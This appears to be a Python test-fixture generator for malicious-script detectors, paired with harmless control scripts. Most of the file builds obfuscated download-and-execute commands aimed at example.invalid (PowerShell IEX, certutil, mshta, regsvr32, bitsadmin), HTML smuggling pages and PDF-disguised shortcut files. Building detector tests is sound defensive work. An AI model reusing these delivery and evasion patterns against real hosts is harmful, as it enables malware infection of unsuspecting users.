# ruff: noqa: E501 - scripts are easier to read in one line
"""Scripts for the tests: hostile in shape, harmless in what they would do (they write a text file or ask
example.invalid), made in the styles that public reports describe; and honest ones."""

from __future__ import annotations

import base64
import struct
from collections.abc import Callable, Iterator

ADDRESS = "http://example.invalid/a.txt"
# ---------------------------------------------------------------------------- payloads, in their languages

JS = {
    "run": 'var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c echo hello > %TEMP%\\\\a.txt",0,false);',
    "fetch": 'var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","http://example.invalid/a.txt",false);h.send();'
    'var t=new ActiveXObject("ADODB.Stream");t.Open();t.Type=1;t.Write(h.ResponseBody);'
    't.SaveToFile("a.exe",2);new ActiveXObject("WScript.Shell").Run("a.exe");',
    "power": 'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -nop -w hidden -c iex(iwr '
    'http://example.invalid/a.txt)",0);',
}
VBS = {
    "run": 'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c echo hello > %TEMP%\\a.txt", 0, False',
    "fetch": 'Set h = CreateObject("MSXML2.ServerXMLHTTP")\nh.Open "GET", "http://example.invalid/a.txt", False\nh.Send\n'
    'Set t = CreateObject("ADODB.Stream")\nt.Type = 1\nt.Open\nt.Write h.ResponseBody\nt.SaveToFile "a.exe", 2\n'
    'CreateObject("WScript.Shell").Run "a.exe"',
    "power": 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -nop -w hidden -c iex(iwr '
    'http://example.invalid/a.txt)", 0',
}
PS = {
    "string": "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.txt')",
    "file": "(New-Object Net.WebClient).DownloadFile('http://example.invalid/a.txt',\"$env:TEMP\\a.exe\");"
    'Start-Process "$env:TEMP\\a.exe"',
    "web": 'Invoke-WebRequest http://example.invalid/a.txt -OutFile "$env:APPDATA\\a.exe"; & "$env:APPDATA\\a.exe"',
}
BATCH = {
    "power": "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')\"",
    "certutil": "certutil -urlcache -split -f http://example.invalid/a.txt %TEMP%\\a.exe & start %TEMP%\\a.exe",
    "curl": "curl -s -o %TEMP%\\a.vbs http://example.invalid/a.txt && wscript %TEMP%\\a.vbs",
}


# ---------------------------------------------------------------------------- disguises


def encoded(command: str) -> str:
    """As ``powershell -EncodedCommand`` wants it."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _js_pieces(text: str, size: int = 3) -> str:
    return "+".join(_quoted(text[at : at + size]) for at in range(0, len(text), size))


def _key(text: str, key: int) -> str:
    return "".join(chr(ord(each) ^ key) for each in text)


JS_WAYS: dict[str, Callable[[str], str]] = {
    "plain": lambda code: code,
    "pieces": lambda code: f"eval({_js_pieces(code)});",
    "codes": lambda code: f"eval(String.fromCharCode({','.join(str(ord(each)) for each in code)}));",
    "apply": lambda code: f"var c=[{','.join(str(ord(each) + 5) for each in code)}],r='';"
    "for(var i=0;i<c.length;i++){r+=String.fromCharCode(c[i]-5);}eval(r);",
    "reverse": lambda code: f"eval({_quoted(code[::-1])}.split('').reverse().join(''));",
    "percent": lambda code: f"eval(unescape('{''.join(f'%{ord(each):02x}' for each in code)}'));",
    "escapes": lambda code: f"var x='{''.join(f'{chr(92)}x{ord(each):02x}' for each in code)}';eval(x);",
    "junk": lambda code: f"var z={_quoted('~q~'.join(code))};eval(z.split('~q~').join(''));",
    "replace": lambda code: f"var z={_quoted('#@!'.join(code))};eval(z.replace(/#@!/g,''));",
    "xor": lambda code: "function d(s,k){var r='';for(var i=0;i<s.length;i++){r+=String.fromCharCode("
    f"s.charCodeAt(i)^k);}}return r;}}\nthis['ev'+'al'](d({_quoted(_key(code, 3))},3));",
    "grow": lambda code: "var a='';\n" + "\n".join(f"a+={_quoted(code[at : at + 9])};" for at in range(0, len(code), 9))
    + "\nnew Function(a)();",
    "array": lambda code: f"var p=[{','.join(_quoted(code[at : at + 4]) for at in range(0, len(code), 4))}];eval(p.join(''));",
    "hex": lambda code: f"var h='{code.encode().hex()}',r='';for(var i=0;i<h.length;i+=2)"
    "r+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(r);",
    "comments": lambda code: "/* " + "lorem ipsum " * 200 + "*/\n" + f"eval({_js_pieces(code, 7)}) // done",
}  # fmt: skip


def _vbs_quoted(text: str) -> str:
    return '"' + text.replace('"', '""').replace("\n", '" & vbLf & "') + '"'


def _line(code: str) -> str:
    return code.replace("\n", ":")


VBS_WAYS: dict[str, Callable[[str], str]] = {
    "plain": lambda code: code,
    "pieces": lambda code: "Execute " + " & ".join(
        _vbs_quoted(_line(code)[at : at + 5]) for at in range(0, len(_line(code)), 5)),
    "chr": lambda code: "Execute " + " & ".join(f"Chr({ord(each)})" for each in _line(code)),
    "arithmetic": lambda code: "x = " + " & ".join(f"Chr({ord(each) + 9}-9)" for each in _line(code)) + "\nExecuteGlobal x",
    "reverse": lambda code: f"Execute StrReverse({_vbs_quoted(_line(code)[::-1])})",
    "replace": lambda code: f'q = {_vbs_quoted("@#".join(_line(code)))}\nExecute Replace(q, "@#", "")',
    "split": lambda code: f'For Each c In Split("{" ".join(str(ord(each)) for each in _line(code))}")\n'
    "t = t & Chr(c)\nNext\nExecute t",
    "hex": lambda code: "Function d(h)\nFor i = 1 To Len(h) Step 2\nd = d & Chr(CInt(\"&H\" & Mid(h, i, 2)))\nNext\n"
    f'End Function\nExecuteGlobal d("{_line(code).encode().hex()}")',
    "xor": lambda code: "Function d(s)\nDim r, i\nFor i = 1 To Len(s)\nr = r & Chr(Asc(Mid(s, i, 1)) Xor 1)\nNext\nd = r\n"
    f"End Function\nExecute d({_vbs_quoted(_key(_line(code), 1))})",
    "grow": lambda code: "\n".join(
        f"a = a & {_vbs_quoted(_line(code)[at : at + 11])}" for at in range(0, len(_line(code)), 11)) + "\nExecute a",
    "array": lambda code: "Execute Join(Array("
    + ", ".join(_vbs_quoted(_line(code)[at : at + 4]) for at in range(0, len(_line(code)), 4)) + '), "")',
}  # fmt: skip

PS_WAYS: dict[str, Callable[[str], str]] = {
    "plain": lambda code: code,
    "encoded": lambda code: f"powershell.exe -NoP -NonI -W Hidden -Enc {encoded(code)}",
    "base64": lambda code: "iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("
    f"'{base64.b64encode(code.encode()).decode()}')))",
    "join": lambda code: "-join ((" + ",".join(str(ord(each)) for each in code) + ")|%{[char]$_})|iex",
    "xor": lambda code: "$k=35;$b=@(" + ",".join(str(ord(each) ^ 35) for each in code)
    + ");$s='';foreach($c in $b){$s+=[char]($c -bxor $k)};Invoke-Expression $s",
    "format": lambda code: "&('{1}{0}' -f 'ex','i') ('{0}{1}' -f '" + code[:20].replace("'", "''") + "','"
    + code[20:].replace("'", "''") + "')",
    "reverse": lambda code: f"$r='{code[::-1].replace(chr(39), chr(39) * 2)}'; iex ($r[-1..-($r.Length)] -join '')",
    "pieces": lambda code: "$x=" + "+".join(
        "'" + code[at : at + 6].replace("'", "''") + "'" for at in range(0, len(code), 6)) + ";.($pshome[4]+$pshome[30]+'x') $x",
    "replace": lambda code: f"$q='{'~^~'.join(code).replace(chr(39), chr(39) * 2)}'.Replace('~^~','');$q|&('I'+'EX')",
    "ticks": lambda code: code.replace("IEX", "I`E`X").replace("New-Object", "N`ew-Ob`ject").replace("Download", "Dow`nlo`ad"),
    "hex": lambda code: f"$h='{code.encode().hex(',')}';$h.Split(',')|%{{$t+=[char][convert]::ToInt32($_,16)}};iex $t",
}  # fmt: skip

_ALPHABET = "zaybxcwdveuftgshriqjpkolnm0123456789"


def _letters(code: str) -> str:
    """Letters out of a variable, by their place."""
    made = "".join(f"%q:~{_ALPHABET.index(each)},1%" if each in _ALPHABET else each for each in code)
    return f"@echo off\nset q={_ALPHABET}\n{made}\n"


BATCH_WAYS: dict[str, Callable[[str], str]] = {
    "plain": lambda code: f"@echo off\n{code}\nexit\n",
    "carets": lambda code: "@echo off\n" + code.replace("powershell", "p^o^w^e^r^s^h^e^l^l").replace(
        "certutil", "c^e^r^t^u^t^i^l").replace("curl", "c^u^r^l") + "\n",
    "letters": _letters,
    "variables": lambda code: f"@echo off\nset a={code[:3]}\nset b={code[3:9]}\n%a%%b%{code[9:]}\n",
    "replace": lambda code: f"@echo off\nset a={'xq'.join(code[:9])}\nset a=%a:xq=%\n%a%{code[9:]}\n",
    "nothing": lambda code: "@echo off\n" + code[:9].replace("", "%zzz%") + code[9:] + "\n",
}  # fmt: skip


def hta(language: str, code: str, *, application: bool = True) -> str:
    head = '<hta:application showintaskbar="no" windowstate="minimize">' if application else ""
    return f'<html><head>{head}<script language="{language}">\n{code}\nwindow.close()\n</script></head></html>'


def wsf(language: str, code: str) -> str:
    return f'<job id="a"><script language="{language}"><![CDATA[\n{code}\n]]></script></job>'


def scripts() -> Iterator[tuple[str, bytes]]:
    """File name and content."""
    for way, make in JS_WAYS.items():
        for payload, code in JS.items():
            yield f"{way}-{payload}.js", make(code).encode("latin-1")
    for way, make in VBS_WAYS.items():
        for payload, code in VBS.items():
            yield f"{way}-{payload}.vbs", make(code).encode("latin-1")
    for way, make in PS_WAYS.items():
        for payload, code in PS.items():
            yield f"{way}-{payload}.ps1", make(code).encode()
    for way, make in BATCH_WAYS.items():
        for payload, code in BATCH.items():
            yield f"{way}-{payload}.bat", make(code).encode()
    for way in ("plain", "codes", "reverse", "percent"):
        yield f"{way}.hta", hta("JScript", JS_WAYS[way](JS["power"])).encode()
        yield f"{way}.wsf", wsf("JScript", JS_WAYS[way](JS["fetch"])).encode()
    for way in ("plain", "chr", "reverse", "split"):
        yield f"{way}-vb.hta", hta("VBScript", VBS_WAYS[way](VBS["power"]), application=False).encode()
        yield f"{way}-vb.wsf", wsf("VBScript", VBS_WAYS[way](VBS["fetch"])).encode()


# ---------------------------------------------------------------------------- HTML smuggling

PAYLOAD = b"PK\3\4" + b"hello, this is a text and no archive at all\n" * 30
_B64 = base64.b64encode(PAYLOAD).decode()
DATA: dict[str, str] = {
    "atob": f'var d=atob("{_B64}");var b=new Uint8Array(d.length);for(var i=0;i<d.length;i++)b[i]=d.charCodeAt(i);',
    "numbers": f"var b=new Uint8Array([{','.join(map(str, PAYLOAD))}]);",
    "hex": f'var h="{PAYLOAD.hex()}",b=new Uint8Array(h.length/2);for(var i=0;i<h.length;i+=2)b[i/2]=parseInt(h.substr(i,2),16);',
    "reversed": f'var d=atob("{_B64[::-1]}".split("").reverse().join(""));var b=Uint8Array.from(d,c=>c.charCodeAt(0));',
    "pieces": "var p=[" + ",".join(f'"{_B64[at : at + 80]}"' for at in range(0, len(_B64), 80))
    + '];var d=atob(p.join(""));var b=Uint8Array.from(d,function(c){return c.charCodeAt(0)});',
    "xor": f"var c=[{','.join(str(byte ^ 7) for byte in PAYLOAD)}];var b=new Uint8Array(c.length);"
    "for(var i=0;i<c.length;i++)b[i]=c[i]^7;",
    "element": f'var d=atob(document.getElementById("p").innerText);var b=Uint8Array.from(d,c=>c.charCodeAt(0));/*{_B64[:600]}*/',
    "escaped": f"var d=unescape('{''.join(f'%{byte:02x}' for byte in PAYLOAD)}');var b=Uint8Array.from(d,c=>c.charCodeAt(0));",
}  # fmt: skip
SAVE: dict[str, str] = {
    "anchor": "var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b],{type:'octet/stream'}));"
    "a.download='Invoice.zip';document.body.appendChild(a);a.click();",
    "attribute": "var a=document.createElement('a');a.setAttribute('href',window.URL.createObjectURL(new Blob([b])));"
    "a.setAttribute('download','scan.iso');a.dispatchEvent(new MouseEvent('click'));",
    "edge": "navigator.msSaveOrOpenBlob(new Blob([b],{type:'application/zip'}),'doc.zip');",
    "words": "var w=window;var l=document['createElement']('a');l['href']=w['URL']['createObjectURL'](new w['Blob']([b]));"
    "l['download']='report.img';l['click']();",
    "file": "var f=new File([b],'a.hta');var l=document.createElement('a');l.download=f.name;l.href=URL.createObjectURL(f);l.click();",
    "later": "window.onload=function(){setTimeout(function(){var a=document.createElement('a');"
    "a.href=URL.createObjectURL(new Blob([b]));a.download='x.js';a.click()},900)};",
}  # fmt: skip


def smuggling() -> Iterator[tuple[str, bytes]]:
    for data, first in DATA.items():
        for save, second in SAVE.items():
            page = f"<html><body><p>Loading your document</p><script>{first}{second}</script></body></html>"
            yield f"{data}-{save}.html", page.encode()
    code = DATA["atob"] + SAVE["anchor"]
    for way in ("codes", "percent", "reverse", "hex"):
        yield f"layer-{way}.html", f"<html><body><script>{JS_WAYS[way](code)}</script></body></html>".encode()
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{code}]]></script></svg>'
    yield "picture.svg", svg.encode()


# ---------------------------------------------------------------------------- shortcuts

_SYSTEM = "Windows\\System32\\"
LINKS: dict[str, tuple[str, str]] = {
    "powershell": ("powershell.exe", f"-nop -w hidden -c \"{PS['string']}\""),
    "encoded": ("powershell.exe", f"-NoP -W 1 -Enc {encoded(PS['string'])}"),
    "web": ("powershell.exe", f"-ep bypass {PS['web']}"),
    "iwr": ("powershell.exe", "-w h iwr http://example.invalid/a.txt -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe"),
    "irm": ("powershell.exe", "-c irm http://example.invalid/a.txt | iex"),
    "cmd-power": ("cmd.exe", "/c start /min powershell -w hidden -c iex(iwr http://example.invalid/a.txt)"),
    "carets": ("cmd.exe", "/c p^o^w^e^r^s^h^e^l^l -w h^i^d^d^e^n -c iex(iwr http://example.invalid/a.txt)"),
    "mshta": ("mshta.exe", "http://example.invalid/a.hta"),
    "mshta-js": ("mshta.exe", "javascript:a=new ActiveXObject('WScript.Shell');a.Run('cmd /c echo hello > a.txt');close()"),
    "mshta-vb": ("mshta.exe", 'vbscript:CreateObject("WScript.Shell").Run("cmd /c echo hello",0)(window.close)'),
    "cmd-mshta": ("cmd.exe", "/c mshta http://example.invalid/a.hta"),
    "curl": ("cmd.exe", "/c curl -o %TEMP%\\a.js http://example.invalid/a.txt && wscript %TEMP%\\a.js"),
    "certutil": ("cmd.exe", "/c certutil -urlcache -f http://example.invalid/a.txt %TEMP%\\a.exe & %TEMP%\\a.exe"),
    "bitsadmin": ("cmd.exe", "/c bitsadmin /transfer a http://example.invalid/a.txt %TEMP%\\a.exe & start %TEMP%\\a.exe"),
    "rundll32": ("rundll32.exe", "\\\\example.invalid@80\\a\\a.dll,Start"),
    "rundll-temp": ("rundll32.exe", "%TEMP%\\a.dat,DllRegisterServer"),
    "regsvr32": ("regsvr32.exe", "/s /n /u /i:http://example.invalid/a.sct scrobj.dll"),
    "msiexec": ("msiexec.exe", "/q /i http://example.invalid/a.msi"),
    "wscript": ("wscript.exe", "//e:vbscript %TEMP%\\a.txt"),
    "forfiles": ("forfiles.exe", '/p c:\\windows /m notepad.exe /c "powershell . mshta http://example.invalid/a"'),
    "conhost": ("conhost.exe", "--headless powershell -c iex(iwr http://example.invalid/a.txt)"),
    "copy": ("cmd.exe", '/c copy a.docx %TEMP%\\a.vbs & start wscript "%TEMP%\\a.vbs" & curl -o %TEMP%\\b.exe http://example.invalid/'),
    "variables": ("cmd.exe", "/v /c set a=po&& set b=wershell&& call %a%%b% -w hidden -c iex(iwr http://example.invalid/a)"),
    "webdav": ("cmd.exe", "/c start \\\\example.invalid@SSL\\DavWWWRoot\\a.exe"),
    "finger": ("cmd.exe", "/c finger a@example.invalid | cmd"),
    "ftp": ("cmd.exe", "/c ftp -s:a.txt & start %TEMP%\\a.exe"),
    "base64": ("powershell.exe", "-w hidden " + PS_WAYS["base64"](PS["string"])),
    "task": ("cmd.exe", "/c schtasks /create /sc minute /tn a /tr \"mshta http://example.invalid/a.hta\""),
}  # fmt: skip


def _counted(text: str) -> bytes:
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def shortcut(program: str, arguments: str, icon: str = "", show: int = 1) -> bytes:
    """[MS-SHLLINK]: a header, a relative path, arguments, an icon."""
    flags = 0x80 | 0x8 | 0x20 | (0x40 if icon else 0)
    head = struct.pack("<I16sI", 76, bytes.fromhex("0114020000000000c000000000000046"), flags)
    head += bytes(32) + struct.pack("<iI", 0, show) + bytes(12)
    return (
        head
        + _counted("..\\..\\" + _SYSTEM + program)
        + _counted(arguments)
        + (_counted(icon) if icon else b"")
        + bytes(4)
    )


def links() -> Iterator[tuple[str, bytes]]:
    for name, (program, arguments) in LINKS.items():
        yield f"{name}.pdf.lnk", shortcut(program, arguments, "C:\\a\\AcroRd32.exe", 7)
        yield f"{name}.lnk", shortcut(program, arguments)


HARMLESS: dict[str, str] = {
    "menu.js": "document.querySelectorAll('.menu').forEach(function(m){m.addEventListener('click',function(){m.className+=' open'})});",
    "sum.js": "module.exports = function (list) { return list.reduce((a, b) => a + b, 0) };",
    "format.js": "var s = 'a' + 'b'; console.log(s.split(',').reverse().join(';'), parseInt('7', 10));",
    "encode.js": "export const encode = text => btoa(unescape(encodeURIComponent(text)));",
    "date.vbs": 'MsgBox "Today is " & Date',
    "count.vbs": "Dim i, s\nFor i = 1 To 9\ns = s & Chr(64 + i)\nNext\nWScript.Echo s",
    "services.ps1": "Get-Service | Where-Object { $_.Status -eq 'Stopped' } | Format-Table Name, Status",
    "backup.ps1": "$day = Get-Date -Format 'yyyy-MM-dd'\nCopy-Item -Recurse C:\\Data \"D:\\Backup\\$day\"",
    "build.bat": '@echo off\nsetlocal\nset CLASSPATH=%~dp0lib\\a.jar\njava -cp "%CLASSPATH%" Main %*\nif errorlevel 1 exit /b 1\n',
    "clean.bat": "@echo off\nfor %%i in (a b c) do del /q %%i\\*.tmp\npause\n",
    "page.html": "<html><body><script>window.onload=function(){document.title='a'+1}</script><form action=\"/search\"><input name=q></form></html>",
    "login.html": '<html><form action="/login" method="post"><input type="password" name="p"></form></html>',
    "users.ps1": "Import-Module ActiveDirectory\nGet-ADUser -Filter * -Properties Mail | Export-Csv users.csv -NoTypeInformation",
    "disk.vbs": 'Set fs = CreateObject("Scripting.FileSystemObject")\nFor Each d In fs.Drives\nIf d.IsReady Then WScript.Echo d.DriveLetter & " " & d.FreeSpace\nNext',
    "map.bat": "@echo off\nnet use G: \\\\files\\group /persistent:yes\nif errorlevel 1 echo not there\n",
    "counter.js": "(function(w,d){var n=0;function tick(){n+=1;d.getElementById('n').textContent=String(n)}w.setInterval(tick,1000)})(window,document);",
    "table.js": "const rows=[...document.querySelectorAll('tr')];rows.sort((a,b)=>a.cells[0].innerText.localeCompare(b.cells[0].innerText)).forEach(r=>r.parentNode.append(r));",
    "colours.js": "var map={a:'\\u0061',b:String.fromCharCode(98)};for(var k in map){console.log(k,map[k].charCodeAt(0).toString(16))}",
    "search.html": "<html><body onload='document.f.q.focus()'><form name=f action='https://example.invalid/search'><input name=q></form></body></html>",
    "consent.html": "<html><script>if(localStorage.getItem('ok')!=='1'){document.write('<p>We use cookies</p>')}</script><p>News</p></html>",
    "logs.ps1": "Get-ChildItem C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -WhatIf",
    "chart.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>function f(e){e.target.style.fill="red"}</script></svg>',
}


def graded() -> Iterator[tuple[str, bool, str, bytes]]:
    """For the guard over all engines: what each is called, whether it is hostile in shape, its file name, its bytes."""
    for make in (scripts, smuggling, links):
        for name, data in make():
            yield name, True, name, data
    for name, text in HARMLESS.items():
        yield name, False, name, text.encode()
